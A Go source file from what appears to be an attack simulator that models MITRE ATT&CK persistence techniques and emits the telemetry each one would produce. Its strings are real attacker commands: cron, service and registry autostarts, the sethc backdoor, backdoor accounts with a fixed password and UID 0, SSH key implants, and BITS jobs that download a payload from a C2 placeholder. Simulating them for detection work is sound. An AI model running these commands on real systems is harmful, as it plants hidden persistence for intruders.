package technique

import (
	"slices"
	"time"

	"hemostat/sim"
	"hemostat/sim/world"
)

var persistence = []*Technique{
	{
		ID: "T1053.003", Name: "Scheduled Task/Job: Cron", Tactic: "persistence", Platforms: []string{"linux"},
		Needs: "a session on Linux", Effect: "the attacker's program is started again and again",
		Telemetry: []string{"linux/auditd"}, Achieves: "persist", Tools: []string{"crontab", "file in /etc/cron.d"}, Takes: sim.LogNormal(90*time.Second, 0.7), Success: 0.96,
		ready: needLinux, run: func(a *Attempt) Progress {
			f := a.Where(false, false)
			if f == nil {
				return failure("%s", errNoLinux)
			}
			if a.Tool == "crontab" {
				a.start(f, world.Bash, `bash -c (crontab -l; echo "*/5 * * * * /tmp/.agent") | crontab -`)
				a.start(f, world.Crontab, "crontab /tmp/.c")
			} else {
				a.start(f, world.Bash, `bash -c echo "*/5 * * * * root /tmp/.agent" > /etc/cron.d/0anacron`)
			}
			return a.persist(f, "/tmp/.agent")
		},
	},
	{
		ID: "T1053.005", Name: "Scheduled Task/Job: Scheduled Task", Tactic: "persistence", Platforms: []string{"windows"},
		Needs: "an elevated foothold on Windows", Effect: "the attacker's program is started again and again",
		Telemetry: []string{"windows/security 4698", "windows/sysmon 1"}, Achieves: "persist", Tools: []string{"schtasks", "Register-ScheduledTask"}, Takes: sim.LogNormal(90*time.Second, 0.7), Success: 0.96,
		ready: needElevated, run: func(a *Attempt) Progress {
			f := a.Where(true, true)
			if f == nil {
				return failure("%s", errNotElevated)
			}
			if r, played := a.playFurther(f); !r.OK() {
				return blocked(r)
			} else if played {
				return a.persist(f, `C:\Users\Public\agent.exe`)
			}
			if a.Tool == "schtasks" {
				a.start(f, world.Schtasks, `schtasks /create /tn "OneDrive Updater" /tr "C:\Users\Public\agent.exe" /sc minute /mo 10 /ru SYSTEM /f`)
			} else {
				a.World.RunScript(a.Now, a.Actor, a.last(f), `Register-ScheduledTask -TaskName "OneDrive Updater" -Action (New-ScheduledTaskAction -Execute C:\Users\Public\agent.exe) -Trigger (New-ScheduledTaskTrigger -AtLogon)`)
			}
			return a.persist(f, `C:\Users\Public\agent.exe`)
		},
	},
	{
		ID: "T1547.001", Name: "Boot or Logon Autostart Execution: Registry Run Keys / Startup Folder", Tactic: "persistence", Platforms: []string{"windows"},
		Needs: "a foothold on Windows", Effect: "the attacker's program starts with every logon",
		Telemetry: []string{"windows/sysmon 1 11 13"}, Achieves: "persist", Tools: []string{"reg add", "startup folder"}, Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
		ready: needWindows, run: func(a *Attempt) Progress {
			f := a.Where(true, false)
			if f == nil {
				return failure("%s", errNoWindows)
			}
			if r, played := a.playFurther(f); !r.OK() {
				return blocked(r)
			} else if played {
				return a.persist(f, `C:\Users\Public\agent.exe`)
			}
			if a.Tool == "reg add" {
				a.start(f, world.Reg, `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\Users\Public\agent.exe /f`)
			} else if f.Implant != nil && f.Account != nil {
				path := `C:\Users\` + f.Account.Name + `\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\updater.exe`
				if r := a.createFile(a.Now+time.Second, f.Implant.Process, path); !r.OK() {
					return blocked(r)
				}
			}
			return a.persist(f, `C:\Users\Public\agent.exe`)
		},
	},
	{
		ID: "T1543.003", Name: "Create or Modify System Process: Windows Service", Tactic: "persistence", Effect: "the attacker's program starts as a service", Achieves: "persist",
		Takes: quick, Success: 0.96,
		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
			by("sc create", cmd(world.Sc, `sc.exe create WinUpd binPath= "C:\Users\Public\agent.exe" start= auto DisplayName= "Windows Update Helper"`)),
			by("New-Service", powershell(`New-Service -Name "WinUpd" -BinaryPathName "C:\ProgramData\agent.exe" -StartupType Automatic`), installService("WinUpd", `C:\ProgramData\agent.exe`)),
		}},
	},
	{
		ID: "T1543.002", Name: "Create or Modify System Process: Systemd Service", Tactic: "persistence", Effect: "the attacker's program starts with the host", Achieves: "persist",
		Takes: quick, Success: 0.96,
		script: &script{at: onLinux, then: settle("/tmp/.agent"), variants: []variant{
			by("unit file", sh(world.Bash, "bash -c cat > /etc/systemd/system/netd.service"), auditCreate("/etc/systemd/system/netd.service"), sh(world.Systemctl, "systemctl daemon-reload"), sh(world.Systemctl, "systemctl enable netd.service")),
			by("user unit", sh(world.Systemctl, "systemctl --user enable netd.service")),
		}},
	},
	{
		ID: "T1546.003", Name: "Event Triggered Execution: Windows Management Instrumentation Event Subscription", Tactic: "persistence", Effect: "the attacker's program starts at an event", Achieves: "persist",
		Takes: quick, Success: 0.93,
		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
			by("PowerShell", powershell(`Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name="Updater";CommandLineTemplate="powershell.exe -enc JABzAD0A"}`), wmi("20", "CommandLineEventConsumer", `"powershell.exe -nop -w hidden -enc JABzAD0A"`), wmi("21", "Binding", "")),
			by("mofcomp", cmd(world.Mofcomp, `mofcomp.exe C:\Users\Public\a.mof`), wmi("19", "Filter", "SELECT * FROM __InstanceModificationEvent WITHIN 60")),
		}},
	},
	{
		ID: "T1546.004", Name: "Event Triggered Execution: Unix Shell Configuration Modification", Tactic: "persistence", Effect: "the attacker's program starts with every shell", Achieves: "persist",
		Takes: quick, Success: 0.97,
		script: &script{at: onLinux, then: settle("/tmp/.agent"), variants: []variant{
			by("profile", sh(world.Bash, "bash -c echo /tmp/.agent >> /etc/profile.d/00-lang.sh"), auditPath("/etc/profile.d/00-lang.sh")),
			by("bashrc", sh(world.Bash, "bash -c echo /tmp/.agent >> /root/.bashrc"), auditPath("/root/.bashrc")),
		}},
	},
	{
		ID: "T1546.008", Name: "Event Triggered Execution: Accessibility Features", Tactic: "persistence", Effect: "the logon screen gives a prompt", Achieves: "persist",
		Takes: quick, Success: 0.95,
		script: &script{at: onElevated, then: settle(`C:\Windows\System32\sethc.exe`), variants: []variant{
			by("debugger", cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f`)),
			by("replaced", cmd(world.Cmd, `cmd.exe /c copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe`), file(`C:\Windows\System32\sethc.exe`), asSystem(world.Winlogon, world.Cmd.Renamed(`C:\Windows\System32\sethc.exe`), `sethc.exe 211`)),
		}},
	},
	{
		ID: "T1546.012", Name: "Event Triggered Execution: Image File Execution Options Injection", Tactic: "persistence", Effect: "the attacker's program starts when another ends", Achieves: "persist",
		Takes: quick, Success: 0.95,
		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
			by("silent exit", cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\notepad.exe" /v MonitorProcess /t REG_SZ /d "C:\Users\Public\agent.exe"`)),
			by("global flag", registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe\GlobalFlag`, "DWORD (0x00000200)")),
		}},
	},
	{
		ID: "T1546.015", Name: "Event Triggered Execution: Component Object Model Hijacking", Tactic: "persistence", Effect: "the attacker's library is loaded in place of another", Achieves: "persist",
		Takes: quick, Success: 0.94,
		script: &script{at: onWindows, then: settle(`C:\Users\Public\a.dll`), variants: []variant{
			by("user's own class", cmd(world.Reg, `reg add HKCU\Software\Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32 /ve /d C:\Users\Public\a.dll /f`)),
			by("tree view", registry(`HKCU\Software\Classes\CLSID\{9BA05972-F6A8-11CF-A442-00A0C90A8F39}\TreatAs\(Default)`, `{00000000-1111-2222-3333-444444444444}`)),
		}},
	},
	{
		ID: "T1547.004", Name: "Boot or Logon Autostart Execution: Winlogon Helper DLL", Tactic: "persistence", Effect: "the attacker's program starts with every logon", Achieves: "persist",
		Takes: quick, Success: 0.95,
		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
			by("userinit", cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /t REG_SZ /d "C:\Windows\system32\userinit.exe,C:\Users\Public\agent.exe" /f`)),
			by("shell", registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell`, `explorer.exe, C:\Users\Public\agent.exe`)),
			by("PowerShell", powershell(`Set-ItemProperty "HKCU:\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" "Shell" "explorer.exe, C:\Users\Public\agent.exe" -Force`)),
		}},
	},
	{
		ID: "T1547.006", Name: "Boot or Logon Autostart Execution: Kernel Modules and Extensions", Tactic: "persistence", Effect: "a module of the attacker is in the kernel", Achieves: "persist",
		Takes: quick, Success: 0.9,
		script: &script{at: onLinux, then: settle("/lib/modules/netfx.ko"), variants: []variant{
			by("insmod", sh(world.Insmod, "insmod /tmp/netfx.ko"), auditCall("insmod", "/usr/bin/kmod")),
			by("modprobe", sh(world.UnixProgram("/sbin/modprobe"), "modprobe netfx")),
		}},
	},
	{
		ID: "T1037.001", Name: "Boot or Logon Initialization Scripts: Logon Script (Windows)", Tactic: "persistence", Effect: "the attacker's script runs at every logon", Achieves: "persist",
		Takes: quick, Success: 0.96,
		script: &script{at: onWindows, then: settle(`C:\Users\Public\l.bat`), variants: []variant{
			by("reg add", cmd(world.Reg, `reg add HKCU\Environment /v UserInitMprLogonScript /t REG_SZ /d C:\Users\Public\l.bat /f`)),
			by("direct", registry(`HKCU\Environment\UserInitMprLogonScript`, `C:\Users\Public\l.bat`)),
		}},
	},
	{
		ID: "T1136.001", Name: "Create Account: Local Account", Tactic: "persistence", Effect: "the attacker has an account of their own", Achieves: "persist",
		Takes: quick, Success: 0.96,
		script: &script{at: anywhere, then: settle(""), variants: []variant{
			by("new user", either(cmd(world.Net, `net user support P@ssw0rd1 /add`), sh(world.Useradd, "useradd -o -u 0 -g 0 -M support"))),
			by("quiet", either(powershell(`New-LocalUser -Name "support" -NoPassword`), sh(world.Useradd, "useradd -m support"))),
		}},
	},
	{
		ID: "T1136.002", Name: "Create Account: Domain Account", Tactic: "persistence", Effect: "the attacker has an account in the domain", Achieves: "persist",
		Takes: quick, Success: 0.93,
		ready: needDomainAdmin, script: &script{at: onDomain, then: settle(""), variants: []variant{
			by("net user", cmd(world.Net, `net user svc_print P@ssw0rd1 /add /domain`), newDomainUser("svc_print")),
			by("AccountManagement", powershell(`Add-Type -AssemblyName System.DirectoryServices.AccountManagement; $u=New-Object System.DirectoryServices.AccountManagement.UserPrincipal($c)`), newDomainUser("svc_print")),
			by("New-ADUser", powershell(`New-ADUser -Name svc_print -AccountPassword (ConvertTo-SecureString P@ssw0rd1 -AsPlainText -Force) -Enabled $true`), newDomainUser("svc_print$")),
		}},
	},
	{
		ID: "T1098", Name: "Account Manipulation", Tactic: "persistence", Effect: "an account of the attacker's choice is an administrator", Achieves: "persist",
		Takes: quick, Success: 0.95,
		script: &script{at: onElevated, then: settle(""), variants: []variant{
			by("local administrators", cmd(world.Net, `net localgroup administrators support /add`)),
			by("remote desktop users", cmd(world.Net, `net localgroup "Remote Desktop Users" {user} /add`)),
		}},
	},
	{
		ID: "T1098.004", Name: "Account Manipulation: SSH Authorized Keys", Tactic: "persistence", Effect: "the attacker's key opens the host", Achieves: "persist",
		Takes: quick, Success: 0.97,
		script: &script{at: onLinux, then: settle("/root/.ssh/authorized_keys"), variants: []variant{
			by("echo", sh(world.Bash, "bash -c echo ssh-rsa AAAAB3Nza >> /root/.ssh/authorized_keys"), auditPath("/root/.ssh/authorized_keys")),
			by("editor", auditPath("/root/.ssh/authorized_keys")),
		}},
	},
	{
		ID: "T1197", Name: "BITS Jobs", Tactic: "persistence", Effect: "a transfer job starts the attacker's program again and again", Achieves: "persist",
		Takes: quick, Success: 0.94,
		script: &script{at: onWindows, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
			by("bitsadmin", cmd(world.Bitsadmin, `bitsadmin.exe /create u & bitsadmin /addfile u http://{c2}/a.exe C:\Users\Public\agent.exe`), cmd(world.Bitsadmin, `bitsadmin.exe /SetNotifyCmdLine u C:\Users\Public\agent.exe NUL`), connect("", 80, "http", 2e3, 900e3)),
			by("Start-BitsTransfer", powershell(`Start-BitsTransfer -Source http://{c2}/a.exe -Destination C:\Users\Public\agent.exe -Asynchronous`), connect("", 80, "http", 2e3, 900e3)),
		}},
	},
	{
		ID: "T1505.003", Name: "Server Software Component: Web Shell", Tactic: "persistence", Effect: "a page of the web server runs the attacker's orders", Achieves: "persist",
		Takes: sim.LogNormal(3*time.Minute, 0.8), Success: 0.93,
		script: &script{at: anywhere, then: settle("/var/www/html/img/t.php"), variants: []variant{
			by("loud", either(webShellWindows, webShellLinux), orders("cmd=whoami")),
			by("encoded", either(webShellWindows, webShellLinux), orders("id=d2hvYW1p")),
		}},
	},
}

// persist notes that a host starts the attacker's program by itself.
func (a *Attempt) persist(f *Foothold, file string) Progress {
	if r := a.World.Quarantined(f.Host, file); !r.OK() {
		return blocked(r)
	}
	if f.Implant != nil {
		f.Implant.Files = append(f.Implant.Files, file)
	}
	if !slices.Contains(a.PersistentHosts(), f.Host) {
		a.Persisted = append(a.Persisted, a.World.AddPersistence(f.Host, a.Actor.Label.Attack, file))
	}
	return success("settled on %s", f.Host.Name)
}

// settle is persist as the end of a script.
func settle(path string) func(a *Attempt, f *Foothold) string {
	return func(a *Attempt, f *Foothold) string { return a.persist(f, path).Note }
}

// wmi is a part of a WMI subscription (Sysmon 19 filter, 20 consumer, 21 binding).
func wmi(id, kind, text string) move {
	return move{"windows/sysmon " + id, func(a *Attempt, f *Foothold) world.Refusal {
		a.World.LogBy(a.Now, a.Actor, f.Host, f.Account, "Sysmon "+id, "EventType", "Wmi"+kind+"Event", "Operation", "Created", "Name", " \"Updater\"", "Type", "Command Line", "Destination", text, "Query", text)
		return world.Refusal{}
	}}
}

// auditPath is a watched file that was written (auditd PATH).
func auditPath(path string) move {
	return move{"linux/auditd", func(a *Attempt, f *Foothold) world.Refusal {
		a.World.Audit(a.Now, a.Actor, f.Host, "PATH", "name", path, "nametype", "NORMAL")
		return world.Refusal{}
	}}
}

// auditCreate is a watched file that was made, auditCall a system call that is audited.
func auditCreate(path string) move {
	return move{"linux/auditd", func(a *Attempt, f *Foothold) world.Refusal {
		a.World.Audit(a.Now, a.Actor, f.Host, "PATH", "name", path, "nametype", "CREATE")
		return world.Refusal{}
	}}
}

func auditCall(comm, exe string) move {
	return move{"linux/auditd", func(a *Attempt, f *Foothold) world.Refusal {
		a.World.Audit(a.Now, a.Actor, f.Host, "SYSCALL", "comm", comm, "exe", exe, "success", "yes")
		return world.Refusal{}
	}}
}

// linuxFile is a file written on Linux, as Sysmon for Linux sees it.
func linuxFile(path string) move {
	return move{"linux/file_event", func(a *Attempt, f *Foothold) world.Refusal {
		a.World.WriteLinuxFile(a.Now, a.Actor, a.last(f), path)
		return world.Refusal{}
	}}
}

// newDomainUser is an account created in the domain.
func newDomainUser(name string) move {
	return move{"windows/security 4720", func(a *Attempt, f *Foothold) world.Refusal {
		if dc := a.World.DomainController(f.Host); dc != nil {
			a.World.CreateUser(a.Now, a.Actor, dc, a.domainAdmin(), name)
		}
		return world.Refusal{}
	}}
}

// webShellWindows and webShellLinux write a web shell and use it once.
var (
	webShellWindows = move{"windows/sysmon 1 11", func(a *Attempt, f *Foothold) world.Refusal {
		p := f.Host.System(world.W3wp, `c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool"`)
		if r := a.createFile(a.Now, p, `C:\inetpub\wwwroot\aspnet_client\t.aspx`); !r.OK() {
			return r
		}
		a.World.StartProcess(a.Now+time.Second, a.Actor, world.Start{Host: f.Host, Binary: world.Cmd, CommandLine: `cmd.exe /c whoami`, Parent: p, Integrity: "High"})
		return world.Refusal{}
	}}
	webShellLinux = move{"linux/auditd", func(a *Attempt, f *Foothold) world.Refusal {
		p := f.Host.System(world.Apache, "/usr/sbin/apache2 -k start")
		a.World.StartProcess(a.Now, a.Actor, world.Start{Host: f.Host, Binary: world.Id, CommandLine: "id", Parent: p})
		a.World.StartProcess(a.Now+time.Second, a.Actor, world.Start{Host: f.Host, Binary: world.UnixProgram("/usr/bin/whoami"), CommandLine: "whoami", Parent: p})
		return world.Refusal{}
	}}
)

// orders asks a page for an order, as the web server's log shows it.
func orders(query string) move {
	return move{"webserver", func(a *Attempt, f *Foothold) world.Refusal {
		if r := a.World.Reach(a.source(), world.At(f.Host), 80); r.ByDefence() {
			return r
		}
		a.World.HTTP(a.Now, a.Actor, world.Request{From: a.source(), To: world.At(f.Host), Port: 80, Method: "GET", Host: "www." + a.World.Domain, URI: "/img/t.php", Query: query, Agent: browserAgent, Status: "200", Received: 300})
		return world.Refusal{}
	}}
}
